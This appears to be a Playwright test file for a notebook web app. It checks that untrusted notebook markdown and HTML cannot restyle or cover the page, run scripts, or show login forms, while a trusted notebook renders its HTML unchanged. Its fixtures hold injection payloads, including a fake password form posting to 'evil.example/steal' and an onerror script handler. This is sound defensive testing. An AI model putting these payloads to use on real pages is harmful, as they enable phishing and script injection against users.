"""An untrusted notebook's markdown and HTML cannot restyle the page, cover it or ask for a
password; the same notebook trusted renders its HTML as it is."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from playwright.sync_api import expect

from tests.frontend.conftest import notebook, screenshot

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Page

    from tests.server.conftest import RunningServer

EVIL = (
    "<style>body{background:red !important} .notebook-toolbar{display:none}</style>"
    '<link rel="stylesheet" href="data:text/css,body%7Bbackground:red%7D">'
    '<div class="cover" style="position:fixed;inset:0;width:100vw;height:100vh;'
    'z-index:2147483647;background:white">covered</div>'
    '<form action="https://evil.example/steal"><label>Password</label>'
    '<input type="password" name="pw"><button>Log in</button></form>'
    '<b class="kept">kept</b>'
)
SCRIPT = "<script>window.ranScript = 1</script><img src=x onerror='window.ranHandler = 1'>"

FOUND = """() => {
    const found = [];
    let shadows = 0;
    const walk = (root, inShadow) => {
        for (const el of root.querySelectorAll("*")) {
            if (el.matches("form, input[type=password]")) found.push(el.outerHTML);
            const dropped = "input, button, textarea, select, style, link, meta, base";
            if (inShadow && el.matches(dropped)) found.push(el.outerHTML);
            if (el.shadowRoot) { shadows++; walk(el.shadowRoot, true); }
        }
    };
    walk(document, false);
    return { found, shadows };
}"""
"""Forms and password fields anywhere in the page, shadow roots included; and in shadow
roots, any form control or style."""

ON_TOP = """(selector) => {
    const el = document.querySelector(selector);
    const box = el.getBoundingClientRect();
    const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    return top !== null && (top === el || el.contains(top));
}"""


def evil_notebook() -> dict[str, Any]:
    nb = notebook(("markdown", f"# Title\n\n- [x] done\n\n{EVIL}\n"), ("code", "display()"))
    nb["cells"][1]["outputs"] = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": EVIL + SCRIPT}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": EVIL}},
    ]
    return nb


def page_look(page: Page) -> dict[str, str]:
    return dict(
        page.evaluate(
            """() => ({
                background: getComputedStyle(document.body).backgroundColor,
                toolbar: getComputedStyle(document.querySelector(".notebook-toolbar")).display,
            })"""
        )
    )


def test_untrusted_markdown_and_html_stay_in_their_box(
    open_page: Callable[[str], Page], web: RunningServer
) -> None:
    clean = page_look(open_page("/notebooks/demo.ipynb"))
    (web.root / "evil.ipynb").write_text(json.dumps(evil_notebook()))
    page = open_page("/notebooks/evil.ipynb")
    markdown = page.locator('.cell[data-cell-id="c0"] .markdown-view')
    outputs = page.locator('.cell[data-cell-id="c1"] .outputs')
    expect(markdown.locator(".kept")).to_have_text("kept")
    expect(markdown.locator("h1")).to_have_text("Title")
    expect(markdown.locator('.task-box[aria-checked="true"]')).to_have_count(1)
    expect(outputs.locator('[data-mime="text/html"] .kept')).to_have_text("kept")
    expect(outputs.locator('[data-mime="text/markdown"] .kept')).to_have_text("kept")
    screenshot(page, "untrusted-evil")

    assert page_look(page) == clean
    badge = page.locator("[data-testid=trust]")
    expect(badge).to_have_text("Not trusted")
    expect(badge).to_be_visible()
    for selector in ("[data-testid=trust]", "[data-testid=save]", ".app-header"):
        assert page.evaluate(ON_TOP, selector), f"{selector} is covered"
    dom = page.evaluate(FOUND)
    assert dom["found"] == []  # dropped, not hidden
    assert dom["shadows"] == 3  # the markdown cell, the HTML output, the markdown output
    assert page.evaluate("[window.ranScript, window.ranHandler]") == [None, None]


def test_the_same_notebook_trusted_renders_its_html(
    open_page: Callable[[str], Page], web: RunningServer
) -> None:
    (web.root / "evil.ipynb").write_text(json.dumps(evil_notebook()))
    web.http.post("/api/notebooks/evil.ipynb/trust", json={"trusted": True}).raise_for_status()
    page = open_page("/notebooks/evil.ipynb")
    html = page.locator('.cell[data-cell-id="c1"] [data-mime="text/html"] .output-html')
    expect(html.locator("input[type=password]")).to_have_count(1)
    page.wait_for_function("window.ranScript === 1 && window.ranHandler === 1")
    assert page.evaluate("document.querySelector('.output-html > style') !== null")
    assert page.evaluate(FOUND)["shadows"] == 0
    assert page_look(page)["background"] == "rgb(255, 0, 0)"  # trusted HTML styles the page

    # Playback draws the past untrusted: no version of it was signed.
    page.locator("[data-testid=history]").dispatch_event("click")  # the toolbar is hidden
    played = page.locator(".playback-notebook")
    expect(played.locator('.cell[data-cell-id="c1"] [data-mime="text/html"] .kept')).to_have_text(
        "kept"
    )
    assert played.locator("input[type=password]").count() == 0
    assert played.locator(".output-html.untrusted").count() == 1
